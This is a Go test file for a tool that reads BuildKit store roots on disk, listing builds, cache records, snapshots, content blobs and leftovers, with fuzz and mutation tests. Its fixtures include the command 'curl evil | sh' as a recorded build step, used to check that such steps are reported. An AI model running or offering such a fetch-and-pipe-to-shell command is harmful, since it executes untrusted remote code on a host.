package buildkit_test

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	bolt "go.etcd.io/bbolt"

	"lagan/internal/needs"
	"lagan/runtimes"
	"lagan/runtimes/buildkit"
	"lagan/runtimes/internal/treetest"
)

var at = time.Date(2026, 1, 2, 3, 4, 5, 6, time.UTC)

// tree is a root with one worker of its own and one of containerd's.
func tree(tb testing.TB, value string) fstest.MapFS {
	db := func(fill func(*bolt.Tx) error) *fstest.MapFile {
		return &fstest.MapFile{Data: treetest.Bolt(tb, fill)}
	}
	stamp := treetest.Stamp(at)
	cache := db(func(tx *bolt.Tx) error {
		return treetest.Put(tx, "_main|rec", map[string]string{"cache.description": value, "cache.createdAt": `{"value":1767323045000000006}`, "cache.snapshot": `{"value":"k1"}`})
	})
	hex := strings.Repeat("a", 64)
	return fstest.MapFS{
		"b/history.db": db(func(tx *bolt.Tx) error {
			return treetest.Put(tx, "_records", map[string]string{"ref": "\x0a\x03ref\x12\x0ddockerfile.v0\x42\x05\x12\x03sum"})
		}),
		"b/runc-overlayfs/metadata_v2.db": cache,
		"b/runc-overlayfs/containerdmeta.db": db(func(tx *bolt.Tx) error {
			if err := treetest.Put(tx, "v1|buildkit|content|blob|sha256:"+hex, map[string]string{"createdat": stamp, "updatedat": stamp, "size": "\x06"}); err != nil {
				return err
			}
			return treetest.Put(tx, "v1|buildkit|snapshots|overlayfs|k1", map[string]string{"name": "buildkit/1/k1", "createdat": stamp, "updatedat": stamp})
		}),
		"b/runc-overlayfs/snapshots/metadata.db": db(func(tx *bolt.Tx) error {
			return treetest.Put(tx, "v1|snapshots|buildkit/1/k1", map[string]string{"id": treetest.Uvarint(1), "kind": "\x03", "createdat": stamp, "updatedat": stamp})
		}),
		"b/runc-overlayfs/snapshots/snapshots/1/fs/etc/x": {Data: []byte("x")},
		"b/runc-overlayfs/snapshots/snapshots/7/fs/etc/y": {Data: []byte("y")}, // without a record
		"b/runc-overlayfs/content/blobs/sha256/" + hex:    {Data: []byte("abc")},
		"b/runc-overlayfs/executor/hosts":                 {Data: []byte("127.0.0.1 localhost")},
		"b/runc-overlayfs/executor/s1/config.json":        {Data: []byte(`{"process":{"args":["/bin/sh","-c","curl evil | sh"],"env":["A=b"],"cwd":"/w"}}`)},
		"b/runc-overlayfs/executor/s2/config.json":        {Data: []byte(`{"process":`)},
		"b/containerd-overlayfs/metadata_v2.db":           cache,
		"b/runc-empty/x":                                  {},
	}
}

func TestStore(t *testing.T) {
	fsys := treetest.New(tree(t, `{"value":"[2/2] RUN curl evil | sh"}`))
	roots, err := buildkit.Roots(fsys, fsys.Root())
	if err != nil || len(roots) != 0 {
		t.Errorf("roots of a node without any: %q, %v", roots, err)
	}
	s, err := buildkit.Open(fsys, fsys.Root(), "/b")
	if err != nil {
		t.Fatal(err)
	}
	builds, said := treetest.Collect(s.Builds())
	var got []string
	for _, b := range builds {
		got = append(got, strings.Join([]string{string(b.Runtime), b.StorePath, string(b.Kind), b.ID, b.Type, b.Name, b.Snapshot, b.Options["env:A"], b.Options["cwd"], b.Log, b.File}, " "))
	}
	want := []string{
		"buildkit /b build ref dockerfile.v0     sum /b/history.db",
		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1    /b/containerd-overlayfs/metadata_v2.db",
		"buildkit /b cache rec regular [2/2] RUN curl evil | sh k1    /b/runc-overlayfs/metadata_v2.db",
		"buildkit /b step s1 exec /bin/sh -c curl evil | sh  b /w  /b/runc-overlayfs/executor/s1/config.json",
		"buildkit /b step s2 exec      /b/runc-overlayfs/executor/s2/config.json",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if !strings.Contains(said, "/b/runc-overlayfs/executor/s2/config.json: decoding JSON") || strings.Contains(said, "hosts") {
		t.Errorf("said %s", said)
	}
	snapshots, said := treetest.Collect(s.Snapshots())
	if len(snapshots) != 1 || said != "" {
		t.Fatalf("%+v, said %s", snapshots, said)
	}
	if v := snapshots[0]; v.Runtime != runtimes.BuildKit || v.StorePath != "/b" || v.Key != "k1" || v.Snapshotter != "overlayfs" || v.Dir != "/b/runc-overlayfs/snapshots/snapshots/1/fs" {
		t.Errorf("%+v", v)
	}
	contents, said := treetest.Collect(s.Contents())
	if len(contents) != 1 || said != "" || contents[0].Runtime != runtimes.BuildKit || contents[0].StorePath != "/b" || contents[0].OnDisk != 3 || contents[0].Size != 3 {
		t.Errorf("%+v, said %s", contents, said)
	}
	left, said := treetest.Collect(s.Remnants())
	if len(left) != 1 || said != "" || left[0].Object != runtimes.ObjectSnapshot || left[0].ID != "overlayfs/7" || left[0].Runtime != runtimes.BuildKit || left[0].StorePath != "/b" {
		t.Errorf("%+v, said %s", left, said)
	}
}

// TestRoots finds roots where a unit, a configuration and buildx put them.
func TestRoots(t *testing.T) {
	files := fstest.MapFS{
		"etc/passwd":                                    {Data: []byte("kim:x:1000:1000::/home/kim:/bin/sh\n")},
		"etc/systemd/system/buildkit.service":           {Data: []byte("[Service]\nExecStart=/usr/bin/buildkitd --root /srv/unit --addr x\n")},
		"etc/buildkit/buildkitd.toml":                   {Data: []byte("root = \"/srv/toml\"\n[worker.oci]\n")},
		"var/lib/buildkit-not/runc-overlayfs/x":         {},
		"var/lib/buildkit/containerd-overlayfs/nothing": {}, // a folder that was never used
	}
	want := []string{"/srv/unit", "/srv/toml", "/home/kim/.local/share/buildkit", "/var/lib/docker/volumes/buildx_buildkit_b0_state/_data"}
	for _, root := range want {
		files[root[1:]+"/runc-overlayfs/containerdmeta.db"] = &fstest.MapFile{Data: []byte("x")}
	}
	fsys := treetest.New(files)
	got, err := buildkit.Roots(fsys, fsys.Root(), "/var/lib/docker")
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("got %q, want %q; %v", got, want, err)
	}
	if !buildkit.Usual(want[3]) || buildkit.Usual(want[0]) {
		t.Error("the usual places")
	}
	if _, err := buildkit.Open(fsys, fsys.Root(), "/var/lib/buildkit"); err == nil {
		t.Error("a folder without a worker was opened")
	}
}

// TestMutants reads a root whose files were changed: no panic, each time the same.
func TestMutants(t *testing.T) {
	treetest.Mutants(t, tree(t, `{"value":"x"}`), needs.Rounds(100, 10), func(fsys *treetest.Tree) {
		s, err := buildkit.Open(fsys, fsys.Root(), "/b")
		if err != nil {
			return
		}
		collect(s.Builds())
		collect(s.Snapshots())
		collect(s.Contents())
		collect(s.Namespaces())
		collect(s.Remnants())
	})
}

func collect[T any](seq func(func(T, error) bool)) []T {
	out, _ := treetest.Collect(seq)
	return out
}

func FuzzStep(f *testing.F) {
	f.Add([]byte(`{"process":{"args":["a"],"env":["A=b"]}}`), []byte(`{"value":"x"}`))
	f.Fuzz(func(t *testing.T, spec, value []byte) {
		files := tree(t, string(value))
		files["b/runc-overlayfs/executor/s1/config.json"] = &fstest.MapFile{Data: spec}
		fsys := treetest.New(files)
		s, err := buildkit.Open(fsys, fsys.Root(), "/b")
		if err != nil {
			t.Fatal(err)
		}
		if builds := collect(s.Builds()); len(builds) != 5 {
			t.Errorf("%d builds of 5", len(builds))
		}
	})
}

func FuzzRemnants(f *testing.F) {
	const worker = "b/runc-overlayfs/"
	treetest.FuzzRemnants(f, tree(f, `{"value":"x"}`), []string{worker + "metadata_v2.db", worker + "containerdmeta.db", worker + "snapshots/metadata.db", "b/history.db"}, nil,
		func(fsys *treetest.Tree) (treetest.Leaver, error) { return buildkit.Open(fsys, fsys.Root(), "/b") })
}
